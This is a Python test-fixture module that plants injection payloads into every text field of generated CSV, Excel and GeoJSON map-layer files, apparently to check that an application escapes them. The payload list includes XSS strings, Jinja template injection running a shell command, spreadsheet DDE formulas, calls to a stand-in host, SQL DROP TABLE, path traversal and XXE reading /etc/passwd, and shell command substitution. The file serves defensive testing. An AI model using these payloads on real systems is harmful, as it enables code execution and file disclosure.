"""Texts that would show themselves if anything ran them, and files with them in every field."""

import json
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

import shapely
import xlsxwriter

from layers import CATALOG, ChildSpec, ColumnSpec, LayerSpec
from tests.desks.making import write_csv

MARK = "__pwned"
RUN = f"window.{MARK}=1"
OUTSIDE = "pwned.invalid"
"""A host that does not exist: whoever asks for it was led there by a payload."""

SIGN = "PWNED"
"""The file a payload would write into the folder that the program runs in."""

PAYLOADS: dict[str, str] = {
    "image": f'<img src=x onerror="{RUN}">',
    "script": f"</style></script><script>{RUN}</script>",
    "svg": f"'\"><svg/onload={RUN}>",
    "iframe": f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    "fetched image": f'<img src="http://{OUTSIDE}/i.png">',
    "style": f"<style>@import url(http://{OUTSIDE}/s.css)</style>",
    "attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "link": f"javascript:{RUN}",
    "template literal": f"${{{RUN}}}`${{{RUN}}}`",
    "jinja": "{{cycler.__init__.__globals__.os.popen('touch " + SIGN + "').read()}}",
    "jinja block": "{% raw %}{{7*7}}{% endraw %}",
    "format": "{name} {0} {__class__} %(x)s %s",
    "json": f'"]}}; {RUN}; //',
    "line separator": f"\u2028{RUN}//",
    "markdown": f"[x](javascript:{RUN}) ![y](http://{OUTSIDE}/m.png) :red[z] :material/home: $x$",
    "markdown html": f"**<b onclick={RUN}>x</b>**",
    "formula": f'=HYPERLINK("http://{OUTSIDE}/","x")',
    "command formula": f"=cmd|' /C touch {SIGN}'!A0",
    "plus formula": f'+WEBSERVICE("http://{OUTSIDE}/")',
    "at formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv": 'a","b\n"c";\'d',
    "typst": f'#read("/etc/passwd") #import "http://{OUTSIDE}/" $ x $ <label> @ref',
    "sql": "'; DROP TABLE feature; --",
    "path": "../../../../etc/passwd",
    "null path": "..\\..\\windows\\win.ini%00.geojson",
    "shell": f"$(touch {SIGN}) `touch {SIGN}` | touch {SIGN}",
    "terminal": "\u001b]0;x\u0007\u001b[31mred",
    "direction": "\u202egnp.exe\u202d\u2066x",
    "xml": f'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;<![CDATA[{RUN}]]>',
    "long": "长" * 5_000,
    "long word": "A" * 5_000,
}


@dataclass(frozen=True)
class Planted:
    """A layer's file with a payload in every field that takes text."""

    key: str
    path: Path
    rows: int


def plant(folder: Path, near: tuple[float, float]) -> dict[str, Planted]:
    """Write a file for every layer but the units of the district; return them by layer.

    ``near`` is lon, lat: the rows lie around it, some 50 m apart.
    """
    folder.mkdir(parents=True, exist_ok=True)
    made = {}
    for spec in CATALOG:
        if spec.key in {"subdistrict", "community"}:
            continue
        write = _table if spec.geometry == "point" else _shapes
        made[spec.key] = Planted(spec.key, write(folder, spec, near), len(PAYLOADS))
    return made


def spoiled(units: Path, target: Path, texts: Sequence[str] = tuple(PAYLOADS.values())) -> Path:
    """Write the GeoJSON of units under payloads for names; return its path."""
    told = json.loads(units.read_text(encoding="utf-8"))
    for number, feature in enumerate(told["features"]):
        for key in set(feature["properties"]) & {"name", "名称"}:
            feature["properties"][key] = texts[number % len(texts)]
    target.write_text(json.dumps(told), encoding="utf-8")
    return target


def _cell(column: ColumnSpec, number: int, text: str) -> object:
    if column.key in {"id", "code"}:
        return f"{text[:60]}{number}"
    if column.kind in {"integer", "number"}:
        return number
    if column.kind == "date":
        return "2026-01-01"
    return text


def _place(near: tuple[float, float], number: int) -> tuple[float, float]:
    return near[0] + 0.0005 * (number % 6), near[1] + 0.0005 * (number // 6)


def _table(folder: Path, spec: LayerSpec, near: tuple[float, float]) -> Path:
    headings = [*(column.title_zh for column in spec.columns), "经度", "纬度"]
    rows: list[list[object]] = [
        [*(_cell(column, n, text) for column in spec.columns), *_place(near, n)]
        for n, text in enumerate(PAYLOADS.values())
    ]
    if not spec.children:
        return write_csv(folder / f"{spec.key}.csv", headings, rows)
    sheets = {spec.title_zh: [headings, *rows]}
    for child in spec.children:
        held = [column.title_zh for column in child.columns]
        sheets[child.title_zh] = [held, *(_child_row(child, rows, n) for n in range(len(rows)))]
    return _workbook(folder / f"{spec.key}.xlsx", sheets)


def _child_row(child: ChildSpec, parents: Sequence[Sequence[object]], number: int) -> list[object]:
    """Return a child of the first record: a payload in every field but the parent's id."""
    text = list(PAYLOADS.values())[number]
    return [
        parents[0][0] if column.key == child.parent_column else _cell(column, number, text)
        for column in child.columns
    ]


def _workbook(path: Path, sheets: Mapping[str, Sequence[Sequence[object]]]) -> Path:
    with xlsxwriter.Workbook(
        path, {"strings_to_formulas": False, "strings_to_urls": False}
    ) as book:
        for title, rows in sheets.items():
            sheet = book.add_worksheet(title)
            for number, row in enumerate(rows):
                for column, value in enumerate(row):
                    sheet.write(number, column, value)
    return path


def _shapes(folder: Path, spec: LayerSpec, near: tuple[float, float]) -> Path:
    features = []
    for number, text in enumerate(PAYLOADS.values()):
        point = shapely.Point(_place(near, number))
        shape = point.buffer(0.0002, quad_segs=1)
        if spec.geometry == "line":
            shape = shapely.LineString(shape.exterior.coords[:3])
        told = {column.title_zh: _cell(column, number, text) for column in spec.columns}
        features.append(
            {
                "type": "Feature",
                "properties": told,
                "geometry": json.loads(shapely.to_geojson(shape)),
            }
        )
    path = folder / f"{spec.key}.geojson"
    path.write_text(
        json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8"
    )
    return path
